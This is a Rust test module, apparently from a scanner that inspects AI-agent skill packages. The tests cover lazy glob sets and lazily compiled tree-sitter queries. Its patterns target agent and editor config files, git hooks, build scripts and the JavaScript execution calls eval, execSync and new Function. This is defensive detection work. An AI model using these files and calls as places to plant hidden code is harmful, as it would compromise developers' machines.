        assert!(letters.get().unwrap().is_match("αβγ ".as_bytes()));
    }

    #[test]
    fn simple_globs_match_as_a_glob_set_would() {
        let sources = [
            "**/tasks.json",
            "**/.claude/settings.json",
            "**/*.md",
            "**/*.code-workspace",
            "**/requirements*.txt",
            "**/references/**",
            "**/.continue/**",
            "build.rs",
            ".git/config",
            "**/.git/hooks/{pre-commit,post-merge}",
        ];
        let lazy = LazyGlobs::new(&sources.map(String::from)).unwrap();
        assert_eq!(lazy.simple.len(), 10);
        assert!(
            SimpleGlob::parse_all("**/a/{b*,c}").is_none(),
            "a wildcard inside braces"
        );
        assert!(
            SimpleGlob::parse_all("{a,b}/{c,d}").is_none(),
            "two brace groups"
        );
        assert!(!lazy.is_match("SKILL.md.bak"));
        assert!(lazy.compiled.get().is_none(), "no path ended in .txt yet");
        let mut builder = GlobSetBuilder::new();
        for source in sources {
            builder.add(Glob::new(source).unwrap());
        }
        let set = builder.build().unwrap();
        for path in [
            "tasks.json",
            ".vscode/tasks.json",
            "mytasks.json",
            "a/mytasks.json",
            ".claude/settings.json",
            "x/.claude/settings.json",
            "x/my.claude/settings.json",
            "README.md",
            "docs/a/b.md",
            "md",
            "x.mdx",
            "a.code-workspace",
            "requirements-dev.txt",
            "ci/requirements.txt",
            "requirements.in",
            "requirements.txt.bak",
            "references/api.md",
            "/references/api.md",
            "skill/references/deep/api.md",
            "skill/references/",
            "references",
            "skill/references",
            "myreferences/api.md",
            "skill/references.md",
            "skill/old-references/x",
            ".continue/config.json",
            "a/.continue/b/c",
            "build.rs",
            "x/build.rs",
            "build.rsx",
            ".git/config",
            "a/.git/config",
            ".git/hooks/pre-commit",
            "pkg/.git/hooks/post-merge",
            ".git/hooks/pre-commit.sample",
            ".git/hooks/{pre-commit,post-merge}",
        ] {
            assert_eq!(lazy.is_match(path), set.is_match(path), "{path}");
        }
    }

    #[test]
    fn globs_parse_at_load_and_build_on_first_match() {
        assert!(LazyGlobs::new(&["src/[".into()]).is_err());
        let globs = LazyGlobs::new(&["**/*.service".into(), "etc/**".into()]).unwrap();
        assert!(globs.compiled.get().is_none());
        assert!(globs.is_match("deploy/agent.service"));
        assert!(globs.is_match("etc/cron.d/job"));
        assert!(!globs.is_match("src/main.rs"));
    }

    #[test]
    fn only_the_patterns_whose_literals_are_in_the_text_are_built() {
        let query = LazyQuery::new(
            r#"
            (call_expression function: (identifier) @f (#eq? @f "eval")) @hit
            ; the second pattern has no @hit: it reports nothing, as in the whole query
            (call_expression function: (identifier) @g (#eq? @g "execSync"))
            (new_expression constructor: (identifier) @c (#eq? @c "Function")) @hit
            "#
            .into(),
            None,
            Grammar::for_query_language(skill_scan_model::Language::Javascript),
        );
        assert_eq!(query.parts.len(), 3);
        let built = |q: &LazyQuery| {
            let mut masks: Vec<u64> = q.built[0].lock().unwrap().keys().copied().collect();
            masks.sort();
            masks
        };
        let exec = query
            .query_for(Grammar::Javascript, Some("execsync(x)"))
            .unwrap();
        assert!(exec.get().is_none(), "no @hit in that pattern");
        assert_eq!(built(&query), [0b010]);
        let eval = query
            .query_for(Grammar::Javascript, Some("eval(x)"))
            .unwrap();
        assert_eq!(eval.get().unwrap().1, 1);
        assert!(query
            .query_for(Grammar::Javascript, Some("nothing"))
            .is_none());
        assert_eq!(
            built(&query),
            [0b010, 0b011],
            "a new build takes in what was built before"
        );
        let both = query.query_for(Grammar::Javascript, Some("eval(new function(s))"));
        assert_eq!(both.unwrap().get().unwrap().0.pattern_count(), 3);
        assert_eq!(built(&query), [0b010, 0b011, 0b111]);
        let again = query
            .query_for(Grammar::Javascript, Some("execsync(eval(x))"))
            .unwrap();
        assert_eq!(
            again.get().unwrap().0.pattern_count(),
            2,
            "the smallest built superset"
        );
        assert_eq!(built(&query), [0b010, 0b011, 0b111]);
        assert!(query.force().is_ok());
        let odd = LazyQuery::new(
            "(identifier) @hit\n\"eval\" @hit".into(),
            None,
            &[Grammar::Javascript],
        );
        assert_eq!(
            odd.parts.len(),
            1,
            "a pattern the splitter skips: built whole"
        );
    }

    #[test]
    fn queries_compile_per_grammar_on_demand() {
        let query = LazyQuery::new(
            "(call_expression function: (identifier) @f (#eq? @f \"eval\")) @hit".into(),
            None,
            Grammar::for_query_language(skill_scan_model::Language::Javascript),
        );
        assert!(query.force().is_ok());
        let built = query
            .query_for(Grammar::Javascript, Some("eval(x)"))
            .unwrap();
        assert_eq!(built.get().unwrap().1, 1);
        assert!(query.query_for(Grammar::Python, Some("eval(x)")).is_none());
        let broken = LazyQuery::new("(no_such_node) @hit".into(), None, &[Grammar::Python]);
        assert!(broken.force().is_err());
    }
}
